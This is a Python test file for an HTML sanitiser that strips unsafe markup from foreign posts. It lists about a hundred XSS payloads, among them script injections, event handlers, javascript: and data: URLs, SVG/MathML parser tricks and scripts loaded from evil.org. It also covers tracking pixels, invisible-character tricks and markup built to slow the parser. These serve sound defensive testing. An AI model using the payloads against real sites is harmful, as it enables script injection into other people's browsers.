"""Foreign HTML: about fifteen tags are left, and nothing that runs, loads, disguises or poses as ours."""

import os
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from indieweb.web.sanitize import LINK_REL, TAGS, sanitise

SCRIPTS = [
    # 51 broken markup
    "<<script>script>alert(1)</script>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script src=//evil.org/x.js></script>",
    "<script/src=data:,alert(1)>",
    "<script\x0c>alert(1)</script\x0c>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "</script><script>alert(1)</script>",
    "<script>/*<!--*/alert(1)</script>-->",
    "<img src=x onerror=alert(1)",
    "<img src=x onerror=alert(1)//",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror=&#97;lert(1)>",
    "<image src=x onerror=alert(1)>",
    "<p/onclick=alert(1)>x</p>",
    '<p onmouseover="alert(1)">x</p>',
    "<p\nonclick=alert(1)>x</p>",
    '<b "onclick=alert(1) ">x</b>',
    "<b/ /onclick=alert(1)>x</b>",
    "<a href=x onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<a onpointerrawupdate=alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)><body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1) poster=//evil.org/p>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=evil>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.org/x.css>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<style>@import '//evil.org/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    '<p style="width:expression(alert(1))">x</p>',
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<xss style=behavior:url(#x)>x</xss>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<a href='x'><script>alert(1)</script></a>",
    '<a href="x" title="\'><script>alert(1)</script>">x</a>',
    # 52 addresses that run
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script&colon;alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)'>x</a>",
    "<a href=' &#14;  javascript:alert(1);'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='\u2028javascript:alert(1)'>x</a>",
    "<a href='java\0script:alert(1)'>x</a>",
    "<a href='javascript&#58;//%0aalert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://me.org/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='//user@evil.org/'>x</a>",
    "<a href='mailto:x?subject=<script>'>x</a>",
    "<q cite='javascript:alert(1)'>x</q>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<a href=# ping=//evil.org/ download target=_blank>x</a>",
    # 53 svg and math
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><![CDATA[><image xlink:href=x onerror=alert(1)>]]></svg>",
    "<svg><desc><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=alert(1)>'>",
]


class Seen(HTMLParser):
    """Every element and attribute of what came out."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_inert(html: str) -> None:
    seen = Seen(html)
    assert not seen.other
    for tag, attributes in seen.elements:
        assert tag in TAGS
        allowed = {"href", "rel"} if tag == "a" else set()
        assert attributes.keys() <= allowed
        if "href" in attributes:
            assert str(attributes["href"]).startswith(("http://", "https://"))
        if tag == "a":
            assert attributes["rel"] == LINK_REL


@pytest.mark.parametrize("base", ["", "https://friend.org/a/"])
@pytest.mark.parametrize("payload", SCRIPTS)
def test_nothing_runs(payload: str, base: str) -> None:
    for html in (payload, f"<p>before</p>{payload}<p>after</p>", f"<a href='/x'>{payload}</a>", payload * 3):
        clean = sanitise(html, base)
        assert_inert(clean)
        assert sanitise(clean, base) == clean


def test_there_are_at_least_sixty_of_them() -> None:
    assert len(set(SCRIPTS)) >= 60


@given(
    st.lists(
        st.sampled_from([*SCRIPTS, "<p>", "</p>", "<b>", "</b>", "<!--", "-->", "'", '"', ">", "<", "x"]), max_size=6
    )
)
def test_no_mixture_of_them_runs_either(parts: list[str]) -> None:
    clean = sanitise("".join(parts), "https://friend.org/")
    assert_inert(clean)
    assert sanitise(clean, "https://friend.org/") == clean


@given(st.text(alphabet="<>/\"'= abpsvgmathscript&;#x0!-\u202e\u200d\u0338\n", max_size=120))
def test_no_broken_markup_runs(html: str) -> None:
    clean = sanitise(html)
    assert_inert(clean)
    assert sanitise(clean) == clean


def test_what_a_conversation_needs_stays() -> None:
    html = "<p>A <b>b</b> <em>c</em> <code>d</code><br>e</p><blockquote>f</blockquote><ul><li>g</li></ul><pre>h</pre>"
    assert sanitise(html) == html


def test_the_text_of_other_elements_stays() -> None:
    assert sanitise("<h1>a</h1><div><span>b</span></div><table><tr><td>c</td></tr></table>") == "abc"


@pytest.mark.parametrize(
    "element", ["script", "style", "template", "svg", "math", "iframe", "noscript", "textarea", "select"]
)
def test_of_some_elements_not_even_the_text_stays(element: str) -> None:
    assert sanitise(f"a<{element}>alert(1)</{element}>b") == "ab"


def test_links_are_absolute_and_vouched_for_by_nobody() -> None:
    clean = sanitise('<a href="../x?a=1&amp;b=2#c">x</a>', "https://friend.org/a/b/")
    assert clean == f'<a href="https://friend.org/a/x?a=1&amp;b=2#c" rel="{LINK_REL}">x</a>'


def test_relative_links_without_a_base_are_no_links() -> None:
    assert 'href="' not in sanitise('<a href="/x">x</a>')


def test_what_would_pose_as_ours_is_stripped() -> None:
    html = (
        '<a rel="webmention me" class="h-card u-url" id="top" name="top" href="https://friend.org/">x</a>'
        '<p class="h-entry" id="main" data-x="y" lang="en" dir="rtl" itemprop="x" role="alert" aria-label="x">y</p>'
        '<link rel="webmention" href="https://evil.org/">'
    )
    assert sanitise(html) == f'<a href="https://friend.org/" rel="{LINK_REL}">x</a><p>y</p>'


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://evil.org/pixel.gif" width=1 height=1>',
        '<picture><source srcset="https://evil.org/a"><img src="https://evil.org/b" alt="c"></picture>',
        '<p style="background: url(https://evil.org/)">',
        '<video poster="https://evil.org/"></video>',
        '<input type="image" src="https://evil.org/">',
        '<link rel="prefetch" href="https://evil.org/">',
        '<object data="https://evil.org/"></object>',
        '<bgsound src="https://evil.org/">',
        '<svg><image href="https://evil.org/"></svg>',
    ],
)
def test_tracking_pixels_and_remote_photos_are_dropped(html: str) -> None:
    assert "evil.org" not in sanitise(html, "https://evil.org/")


@pytest.mark.parametrize(
    "text", ["{{ 7 * 7 }}", "{% include 'x' %}", "{static}/x", "{filename}x.md", "Save_as: ../x", "${x}"]
)
def test_what_would_mean_something_to_a_template_is_left_as_it_is(text: str) -> None:
    assert sanitise(f"<p>{text}</p>") == f"<p>{text}</p>"


HIDDEN = ["\u202e", "&#x202e;", "&#8238;", "&rlm;", "\u200b", "&ZeroWidthSpace;", "\u2066", "&shy;", "\x07"]


@pytest.mark.parametrize("hidden", HIDDEN)
def test_direction_overrides_and_invisible_characters_are_stripped(hidden: str) -> None:
    assert sanitise(f"<p>a{hidden}b</p>") == "<p>ab</p>"


def test_what_stripping_puts_together_is_not_markup() -> None:
    for html in ("&lt;\u200bscript&gt;", "<\u200bscript>alert(1)</script>", "&#x20\u200b2e;", "&l&zwj;t;script>"):
        clean = sanitise(html)
        assert_inert(clean)
        assert "<" not in clean
        assert sanitise(clean) == clean


def test_marks_are_not_stacked() -> None:
    assert sanitise("<p>a" + "\u0301" * 100 + "b</p>").count("\u0301") <= 4


def test_a_mark_at_the_beginning_does_not_melt_into_the_tag() -> None:
    assert sanitise("<p>\u0338x</p>").startswith("<p>")


def test_links_show_look_alike_hosts_as_punycode() -> None:
    assert 'href="https://xn--80ak6aa92e.com/"' in sanitise('<a href="https://аррӏе.com/">x</a>')


def test_links_with_direction_overrides_are_dropped() -> None:
    assert 'href="' not in sanitise('<a href="https://friend.org/\u202egnp.exe">x</a>')


@pytest.mark.parametrize(
    "html",
    [
        pytest.param("<blockquote>" * 50_000 + "x", id="deep"),
        pytest.param("<b>" * 50_000 + "x", id="deep in formatting"),
        pytest.param("<p>" + "".join(f"<b class={n}>" for n in range(2000)) + "</p>" + "<p>x" * 20_000, id="reopened"),
        pytest.param("<p>" + '<b x="</b>">' * 2000 + "</p>" + "<p>x" * 20_000, id="closed in attributes only"),
        pytest.param("<p>" + '<b " x="></b>">' * 2000 + "</p>" + "<p>x" * 20_000, id="closed in odd attributes only"),
        pytest.param("<p>" + "<b><!--</b>-->" * 2000 + "</p>" + "<p>x" * 20_000, id="closed in comments only"),
        pytest.param("<p>" + "<b><style></b></style>" * 2000 + "</p>" + "<p>x" * 9_000, id="closed in styles only"),
        pytest.param("<table><tr><td>" * 10_000 + "x", id="tables"),
        pytest.param("x" * 3_000_000, id="long"),
        pytest.param("<" * 300_000 + "x", id="broken"),
        pytest.param('<a b="' * 60_000 + "x", id="unclosed"),
    ],
)
def test_markup_that_is_made_to_take_long_is_cut_or_shown_as_text(html: str) -> None:
    clean = sanitise(html)
    assert len(clean) < 1_000_000
    assert_inert(clean)


REOPENED = {
    "a hundred at a time": "<b class={n}>",
    "that look closed in attributes": '<b x="</b>{n}">',
    "that look closed in odd attributes": '<b " x="></b>{n}">',
    "that look closed in comments": "<b class={n}><!--</b>-->",
    "that look closed in styles": "<b class={n}><style></b></style>",
}


@pytest.mark.parametrize("name", REOPENED)
def test_elements_that_a_parser_opens_again_in_every_paragraph_take_no_memory(name: str) -> None:
    """In a process that has little: ten kilobytes could become millions of elements."""
    code = (
        "import resource; from indieweb.web.sanitize import sanitise; sanitise('<p>x')\n"
        "resource.setrlimit(resource.RLIMIT_AS, (400 << 20, 400 << 20))\n"
        "import sys; many = ''.join(sys.argv[1].format(n=n) for n in range(99))\n"
        "sanitise('<p>' + many + '</p>' + '<p>x' * 20_000); print('done')"
    )
    environment = {"PYTHONPATH": os.pathsep.join(sys.path)}
    ran = subprocess.run(
        [sys.executable, "-c", code, REOPENED[name]], env=environment, capture_output=True, timeout=60, check=False
    )
    assert ran.stdout == b"done\n", ran.stderr[-300:]


def test_what_is_tangled_is_shown_as_escaped_text() -> None:
    assert sanitise("<b>" * 5000 + "a &amp; &lt;script&gt;\u202e</b>") == "a &amp; &lt;script&gt;"


def test_a_long_article_is_not_taken_for_an_attack() -> None:
    html = '<p>Words, <b>bold</b> and <a href="https://friend.org/">linked</a>.</p>' * 1000
    assert sanitise(html).count("<b>") == 1000
